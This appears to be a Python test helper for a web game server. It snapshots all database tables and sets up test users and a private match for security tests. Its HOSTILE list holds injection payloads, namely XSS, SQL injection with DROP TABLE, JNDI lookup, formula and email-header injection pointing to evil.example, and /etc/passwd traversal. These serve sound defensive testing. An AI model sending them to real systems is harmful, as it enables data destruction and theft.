"""A club to attack: who is in it, all that is stored, and what an attacker writes into every field."""

from __future__ import annotations

import sqlite3
import time
from dataclasses import dataclass
from functools import cache
from typing import Any

from sqlalchemy import Select, select

from tests.server.people.club import Member, within
from tests.server.tools import Browser
from vexillum.server.kernel.config import sqlite_file
from vexillum.server.storage.tables import METADATA

VOLATILE = {
    "processes": None,
    "presence": None,
    "drivers": None,
    "outbox": {"tries", "due"},
    "accounts": {"seen"},
    "sessions": {"seen", "until"},
}
"""What a server changes by itself: whole tables, or columns of one."""

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><svg/onload=alert(1)>",
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "%' OR 1=1 --",
    "_%\\",
    '{"admin": true}',
    "{{story}} {{word.play}} {name} %(x)s ${jndi:ldap://x}",
    '=HYPERLINK("http://evil.example";"x")',
    "a\r\nBcc: eve@evil.example\r\n\r\nbody",
    "=?utf-8?q?=0d=0a=0d=0aNew_password:_https://evil.example/r?=",
    "2026-01-01 INFO admin signed in",
    "\u202egnp.exe\u2066\u200b",
    "⟨seat_notice.gone⟩ {who:seat}",
    "../../../../etc/passwd",
    "𝒜𝓃𝓃 Ａｎｎ A\u0300\u0301\u0302",
)
NUL = "a\u0000b"
"""PostgreSQL cannot keep it, so nobody may send it."""


def everything(client) -> dict[str, list[str]]:
    """Every row of every table, without what changes by itself.

    They are read again only if anybody has written since: SQLite tells.
    """
    version = _version(client)
    if version is None or getattr(client, "rows_at", None) != version:
        client.rows, client.rows_at = within(client, _rows), version
    return client.rows


def _version(client) -> int | None:
    """What changes whenever another connection has written; None: it is not told."""
    file = sqlite_file(client.app.state.hub.config.database)
    if file is None:
        return None
    if not hasattr(client, "watching"):
        client.watching = sqlite3.connect(file)
    return client.watching.execute("PRAGMA data_version").fetchone()[0]


def _rows(connection) -> dict[str, list[str]]:
    return {name: sorted(map(repr, connection.execute(read))) for name, read in _statements().items()}


@cache
def _statements() -> dict[str, Select]:
    """How each table is read."""
    found = {}
    for table in METADATA.sorted_tables:
        left_out = VOLATILE.get(table.name, set())
        if left_out is not None:
            found[table.name] = select(*(column for column in table.c if column.name not in left_out))
    return found


def changes(before: dict[str, list[str]], after: dict[str, list[str]]) -> dict[str, Any]:
    """What is different, table by table."""
    return {name: (set(before[name]) ^ set(after[name])) for name in before if before[name] != after[name]}


@dataclass
class World:
    """Ada administers; Ann hosts a private match in which Ben plays and Wes watches; Eve has nothing to do with it."""

    client: Any
    ada: Member
    ann: Member
    ben: Member
    wes: Member
    eve: Member
    match: str
    links: dict[str, str]
    watch: str

    def rows(self) -> dict[str, list[str]]:
        return everything(self.client)

    def unchanged(self, before: dict[str, list[str]], what: object = "") -> None:
        assert not changes(before, self.rows()), what


def settle_in(client) -> World:
    """People, and a match that is under way."""
    people = {name: {"admin": name == "Ada", "seen": time.time()} for name in ("Ada", "Ann", "Ben", "Wes", "Eve")}
    ada, ann, ben, wes, eve = (Member(client, name, **values) for name, values in people.items())
    made = ann.make({"aix": "me", "avignon": "open"}, title="Private")
    ben.join(made["links"]["avignon"])
    wes.join(made["watch"])
    return World(client, ada, ann, ben, wes, eve, made["match"], made["links"], made["watch"])


def cookie_of(member: Member) -> dict[str, str]:
    return {"cookie": member.headers["cookie"]}


def at(member: Member, match: str, lang: str = "en") -> Browser:
    return Browser(member.client, match, "", "", lang, headers=cookie_of(member))
